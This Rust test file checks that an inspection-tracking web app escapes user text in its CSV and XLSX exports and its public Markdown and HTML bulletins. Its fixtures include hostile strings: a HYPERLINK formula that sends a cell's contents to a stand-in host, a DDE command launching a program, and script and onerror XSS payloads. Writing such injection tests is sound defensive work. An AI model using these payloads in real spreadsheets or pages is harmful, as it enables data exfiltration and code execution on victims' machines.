//! Escaping by construction: texts a user wrote that a spreadsheet would run (`=HYPERLINK…`,
//! `@SUM…`, `=cmd|…`) leave every CSV quoted and every workbook as string cells, and read back
//! exactly as written; texts that are HTML or Markdown (`<script>`, `<img onerror>`, `|`, `#`,
//! `[x](javascript:…)`) reach the public Markdown and the pages as the characters typed.

use std::io::Read;

use serde_json::{Value, json};

use crate::helpers::{TestApp, TestUser, spawn_app};

const TITLE: &str = r#"=HYPERLINK("http://example.invalid/?"&A2,"点击查看详情")"#;
const LEADER: &str = "@SUM(1+1)";
const MEASURE: &str = "=cmd|' /C calc'!A0";
const PERSON: &str = "+1+1";
const DESCRIPTION: &str = "-2+3 问题描述";

const HTML_TITLE: &str = "<script>alert(1)</script>|表格|<img src=x onerror=alert(1)>";
const HTML_MEASURE: &str = "[点我](javascript:alert(1)) `代码` *强调*";
const HTML_DESCRIPTION: &str = "# 不是标题\n- 不是列表\n\n    不是代码";

const IMPORT: &str = "mutation($i: ID!, $file: Upload!, $dry: Boolean) { importLedger(inspectionId: $i, file: $file, dryRun: $dry) {
    dryRun applied findingsCreated findingsUpdated measuresCreated measuresUpdated entriesAdded problems { row column code message } } }";
const XLSX: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

/// A new inspection of the demo unit holding one finding with texts a spreadsheet would run
/// and one with texts that are HTML and Markdown, each with a measure; the inspection's id
/// and the two findings' ids.
async fn hostile_inspection(app: &TestApp) -> (String, String, String) {
    let manager = TestUser::manager("ZJTZB");
    let inspection = app
        .data(
            &TestUser::inspector(),
            "mutation($input: CreateInspectionInput!) { createInspection(input: $input) { id } }",
            json!({"input": {"title": "转义测试", "inspectionGroup": "市委第三巡察组", "unitCode": "ZJTZB", "startedOn": "2020-03-19", "feedbackOn": "2020-09-05"}}),
        )
        .await["createInspection"]["id"]
        .as_str()
        .unwrap()
        .to_owned();
    let mut ids = Vec::new();
    for (title, description, leader, person, measure) in [
        (TITLE, DESCRIPTION, LEADER, PERSON, MEASURE),
        (
            HTML_TITLE,
            HTML_DESCRIPTION,
            "<b>领导</b>",
            // A text that itself begins with a quote before a formula character.
            "'=张三",
            HTML_MEASURE,
        ),
    ] {
        let finding = app
            .data(
                &manager,
                "mutation($i: CreateFindingInput!) { createFinding(input: $i) { id } }",
                json!({"i": {"inspectionId": inspection, "title": title, "description": description,
                    "rectificationType": "BY_DEADLINE", "responsibleLeader": leader,
                    "responsiblePerson": person, "departmentCode": "ZJTZB-BGS", "deadline": "2021-06-30"}}),
            )
            .await["createFinding"]["id"]
            .as_str()
            .unwrap()
            .to_owned();
        app.data(
            &manager,
            "mutation($i: CreateMeasureInput!) { createMeasure(input: $i) { id } }",
            json!({"i": {"findingId": finding, "content": measure}}),
        )
        .await;
        ids.push(finding);
    }
    let html = ids.pop().unwrap();
    let formula = ids.pop().unwrap();
    (inspection, formula, html)
}

async fn get_bytes(app: &TestApp, path: &str, token: Option<&str>) -> Vec<u8> {
    let mut request = app.client.get(app.url(path));
    if let Some(token) = token {
        request = request.bearer_auth(token);
    }
    let response = request.send().await.unwrap();
    assert_eq!(response.status(), 200, "{path}");
    response.bytes().await.unwrap().to_vec()
}

/// A CSV's rows (after its byte-order mark).
fn csv_rows(bytes: &[u8]) -> Vec<Vec<String>> {
    let text = std::str::from_utf8(bytes).unwrap();
    let text = text.strip_prefix('\u{FEFF}').expect("a byte-order mark");
    csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

/// The cell of `row` under `heading` of `header`.
fn cell<'a>(header: &[String], row: &'a [String], heading: &str) -> &'a str {
    let at = header
        .iter()
        .position(|h| h == heading)
        .unwrap_or_else(|| panic!("no column {heading}"));
    &row[at]
}

/// No cell a spreadsheet program would take as a formula: none starts with `=`, `+`, `-`,
/// `@`, a tab or a carriage return, unless it is a plain number.
fn assert_no_formula_cells(rows: &[Vec<String>], what: &str) {
    for row in rows {
        for c in row {
            let plain_number = c.parse::<f64>().is_ok() && !c.contains(['e', 'E', 'i', 'n', 'N']);
            assert!(
                !c.starts_with(['=', '+', '-', '@', '\t', '\r']) || plain_number,
                "{what}: a cell a spreadsheet would run: {c:?}"
            );
        }
    }
}

#[tokio::test]
async fn texts_a_spreadsheet_would_run_are_quoted_in_the_ledger_and_report_csvs() {
    let app = spawn_app().await;
    let manager = TestUser::manager("ZJTZB");
    let (inspection, formula, _) = hostile_inspection(&app).await;

    let ledger = csv_rows(
        &get_bytes(
            &app,
            &format!("/api/v1/inspections/{inspection}/ledger?format=csv"),
            Some(&manager),
        )
        .await,
    );
    assert_no_formula_cells(&ledger, "the ledger");
    let row = ledger
        .iter()
        .find(|r| r.contains(&formula))
        .expect("the finding's row")
        .clone();
    assert_eq!(cell(&ledger[0], &row, "问题"), format!("'{TITLE}"));
    assert_eq!(cell(&ledger[0], &row, "责任领导"), format!("'{LEADER}"));
    assert_eq!(cell(&ledger[0], &row, "责任人"), format!("'{PERSON}"));
    assert_eq!(cell(&ledger[0], &row, "整改措施"), format!("'{MEASURE}"));
    assert_eq!(
        cell(&ledger[0], &row, "问题描述"),
        format!("'{DESCRIPTION}")
    );
    // rectrack's own cells are as they were: numbers, dates.
    assert_eq!(cell(&ledger[0], &row, "问题ID"), formula);
    assert_eq!(cell(&ledger[0], &row, "整改时限"), "2021-06-30");

    // The report's and the bulletin's CSV (the report's table).
    for mutation in ["generateReport", "generateBulletin"] {
        let id = app
            .data(
                &manager,
                &format!("mutation($i: ID!) {{ {mutation}(inspectionId: $i) {{ id }} }}"),
                json!({"i": inspection}),
            )
            .await[mutation]["id"]
            .as_str()
            .unwrap()
            .to_owned();
        let rows = csv_rows(
            &get_bytes(
                &app,
                &format!("/api/v1/reports/{id}?format=csv"),
                Some(&manager),
            )
            .await,
        );
        assert_no_formula_cells(&rows, mutation);
        let row = rows
            .iter()
            .find(|r| r.iter().any(|c| c.contains("HYPERLINK")))
            .expect("the finding's row")
            .clone();
        assert_eq!(
            cell(&rows[0], &row, "问题"),
            format!("'{TITLE}"),
            "{mutation}"
        );
        assert_eq!(cell(&rows[0], &row, "责任领导"), format!("'{LEADER}"));
        assert_eq!(cell(&rows[0], &row, "责任人"), format!("'{PERSON}"));
        assert_eq!(cell(&rows[0], &row, "整改措施"), format!("1. {MEASURE}"));
    }
}

/// Every worksheet of a workbook: its part name and XML.
fn worksheets(bytes: &[u8]) -> Vec<(String, String)> {
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes.to_vec())).unwrap();
    let names: Vec<String> = (1..)
        .map(|k| format!("xl/worksheets/sheet{k}.xml"))
        .take_while(|name| zip.by_name(name).is_ok())
        .collect();
    assert!(!names.is_empty());
    names
        .iter()
        .map(|name| {
            let mut xml = String::new();
            zip.by_name(name).unwrap().read_to_string(&mut xml).unwrap();
            (name.clone(), xml)
        })
        .collect()
}

/// The opening tag of cell `reference` (`B5`) in a worksheet's XML.
fn cell_tag<'a>(xml: &'a str, reference: &str) -> &'a str {
    let start = xml
        .find(&format!("<c r=\"{reference}\""))
        .unwrap_or_else(|| panic!("no cell {reference}"));
    let end = xml[start..].find('>').unwrap() + start;
    &xml[start..=end]
}

#[tokio::test]
async fn workbooks_hold_those_texts_as_string_cells_without_formulas() {
    use calamine::{Data, Reader};
    let app = spawn_app().await;
    let manager = TestUser::manager("ZJTZB");
    let (inspection, _, _) = hostile_inspection(&app).await;
    let report = app.generate_report(&manager, &inspection).await;
    for path in [
        format!("/api/v1/inspections/{inspection}/ledger?format=xlsx"),
        format!("/api/v1/inspections/{inspection}/ledger?layout=printed"),
        format!("/api/v1/reports/{report}?format=xlsx"),
    ] {
        let bytes = get_bytes(&app, &path, Some(&manager)).await;
        let sheets = worksheets(&bytes);
        for (_, xml) in &sheets {
            assert!(
                !xml.contains("<f>") && !xml.contains("<f "),
                "{path}: a formula element"
            );
        }
        // Each hostile text is a string cell (a shared string, t="s"), read back as written.
        let mut book: calamine::Xlsx<_> =
            calamine::open_workbook_from_rs(std::io::Cursor::new(bytes.clone())).unwrap();
        let range = book.worksheet_range("整改台账").unwrap();
        let (top, left) = range.start().unwrap();
        let (_, ledger_xml) = sheets
            .iter()
            .find(|(name, _)| name == "xl/worksheets/sheet1.xml")
            .unwrap();
        for text in [TITLE, LEADER, PERSON, MEASURE] {
            let (r, c, _) = range
                .cells()
                .find(|(_, _, v)| matches!(v, Data::String(s) if s.contains(text)))
                .unwrap_or_else(|| panic!("{path}: no string cell {text}"));
            let reference = format!(
                "{}{}",
                char::from(b'A' + (c as u32 + left) as u8),
                r as u32 + top + 1
            );
            let tag = cell_tag(ledger_xml, &reference);
            assert!(
                tag.contains("t=\"s\"") || tag.contains("t=\"inlineStr\""),
                "{path}: {reference} {tag}"
            );
        }
    }
}

async fn import(
    app: &TestApp,
    inspection: &str,
    name: &str,
    media: &str,
    bytes: &[u8],
    dry: bool,
) -> Value {
    let (status, body) = app
        .upload(
            &TestUser::manager("ZJTZB"),
            IMPORT,
            json!({"i": inspection, "file": null, "dry": dry}),
            &[("variables.file", name, media, bytes)],
        )
        .await;
    assert_eq!(status, 200, "{body}");
    assert!(body.get("errors").is_none(), "{body}");
    body["data"]["importLedger"].clone()
}

/// What the finding and its measure hold, as the GraphQL API reads them.
async fn texts(app: &TestApp, finding: &str) -> Value {
    app.data(
        &TestUser::manager("ZJTZB"),
        "query($id: ID!) { finding(id: $id) { title description responsibleLeader responsiblePerson version measures { content version } } }",
        json!({"id": finding}),
    )
    .await["finding"]
        .clone()
}

#[tokio::test]
async fn a_quoted_export_imports_back_as_the_texts_were_written_and_changes_nothing() {
    let app = spawn_app().await;
    let manager = TestUser::manager("ZJTZB");
    let (inspection, formula, html) = hostile_inspection(&app).await;
    let before = (texts(&app, &formula).await, texts(&app, &html).await);
    assert_eq!(before.0["title"], TITLE);

    let csv = get_bytes(
        &app,
        &format!("/api/v1/inspections/{inspection}/ledger?format=csv"),
        Some(&manager),
    )
    .await;
    assert!(String::from_utf8_lossy(&csv).contains(&format!("'{LEADER}")));
    // The same file as a spreadsheet program saves it again as a workbook: the quotes kept
    // as text.
    let resaved = {
        let mut workbook = rust_xlsxwriter::Workbook::new();
        let sheet = workbook.add_worksheet();
        for (r, row) in csv_rows(&csv).iter().enumerate() {
            for (c, value) in row.iter().enumerate() {
                sheet.write_string(r as u32, c as u16, value).unwrap();
            }
        }
        workbook.save_to_buffer().unwrap()
    };
    let xlsx = get_bytes(
        &app,
        &format!("/api/v1/inspections/{inspection}/ledger?format=xlsx"),
        Some(&manager),
    )
    .await;
    for (name, media, bytes) in [
        ("ledger.csv", "text/csv", &csv),
        ("resaved.xlsx", XLSX, &resaved),
        ("ledger.xlsx", XLSX, &xlsx),
    ] {
        for dry in [true, false] {
            let report = import(&app, &inspection, name, media, bytes, dry).await;
            assert_eq!(report["problems"], json!([]), "{name}: {report}");
            assert_eq!(
                (
                    report["findingsCreated"].clone(),
                    report["findingsUpdated"].clone(),
                    report["measuresCreated"].clone(),
                    report["measuresUpdated"].clone(),
                    report["entriesAdded"].clone()
                ),
                (json!(0), json!(0), json!(0), json!(0), json!(0)),
                "{name} (dry run {dry}): nothing changes: {report}"
            );
        }
    }
    let after = (texts(&app, &formula).await, texts(&app, &html).await);
    assert_eq!(after, before);
    assert_eq!(after.0["title"], TITLE);
    assert_eq!(after.0["responsibleLeader"], LEADER);
    assert_eq!(after.0["measures"][0]["content"], MEASURE);
    assert_eq!(after.1["responsiblePerson"], "'=张三");
}

#[tokio::test]
async fn the_public_markdown_shows_html_and_markdown_in_a_title_as_text() {
    let app = spawn_app().await;
    let manager = TestUser::manager("ZJTZB");
    let (inspection, _, _) = hostile_inspection(&app).await;
    let bulletin = app.generate_bulletin(&manager, &inspection).await;
    app.data(
        &manager,
        "mutation($id: ID!) { publishBulletin(id: $id) { id } }",
        json!({"id": bulletin}),
    )
    .await;

    // Anonymous, as the public reads it.
    let md = String::from_utf8(
        get_bytes(
            &app,
            &format!("/public/bulletins/{bulletin}?format=md"),
            None,
        )
        .await,
    )
    .unwrap();
    for raw in [
        "<script",
        "<img",
        "<b>",
        "[点我](",
        "\n# 不是",
        "\n- 不是",
        "\n    不是",
    ] {
        assert!(!md.contains(raw), "{raw} in {md}");
    }
    assert!(
        md.contains(
            "\n2. &lt;script&gt;alert(1)&lt;/script&gt;\\|表格\\|&lt;img src=x onerror=alert(1)&gt;。\\# 不是标题\n\\- 不是列表\n\n不是代码。\n"
        ),
        "{md}"
    );
    assert!(
        md.contains("\\[点我\\](javascript:alert(1)) \\`代码\\` \\*强调\\*。"),
        "{md}"
    );
    assert!(
        md.contains("\n1. \\=HYPERLINK(\"http://example.invalid/?\"&amp;A2,\"点击查看详情\")。-2+3 问题描述。\n"),
        "{md}"
    );
    // The only HTML is the bulletin's own signature lines.
    assert!(
        md.match_indices('<')
            .all(|(at, _)| md[at..].starts_with("<p align=\"right\">")
                || md[at..].starts_with("</p>")),
        "{md}"
    );

    // The page escapes them, as before.
    let page =
        String::from_utf8(get_bytes(&app, &format!("/public/bulletins/{bulletin}"), None).await)
            .unwrap();
    assert!(
        !page.contains("<script") && !page.contains("<img"),
        "{page}"
    );
    assert!(page.contains(
        "<p>2. &lt;script&gt;alert(1)&lt;/script&gt;|表格|&lt;img src=x onerror=alert(1)&gt;。"
    ));

    // The office's report: its table of figures keeps its rows; the titles are text.
    let report = app.generate_report(&manager, &inspection).await;
    let office = app.markdown(&manager, &report).await;
    assert!(
        !office.contains("<script") && !office.contains("<img") && !office.contains("<b>"),
        "{office}"
    );
    let table: Vec<&str> = office.lines().filter(|l| l.starts_with('|')).collect();
    // Twelve figures of the ledger, one of public feedback and three of the office's
    // supervision orders (督办单).
    assert_eq!(table.len(), 2 + 16, "{office}");
    assert!(
        table.iter().all(|l| l.matches('|').count() == 3),
        "{table:?}"
    );
    assert!(
        office.contains("\n### 2. &lt;script&gt;alert(1)&lt;/script&gt;\\|表格\\|&lt;img src=x onerror=alert(1)&gt;（"),
        "{office}"
    );
    assert!(
        office.contains("责任领导：&lt;b&gt;领导&lt;/b&gt;"),
        "{office}"
    );
    assert!(
        office.contains("\n\\# 不是标题\n\\- 不是列表\n\n不是代码\n"),
        "{office}"
    );
}
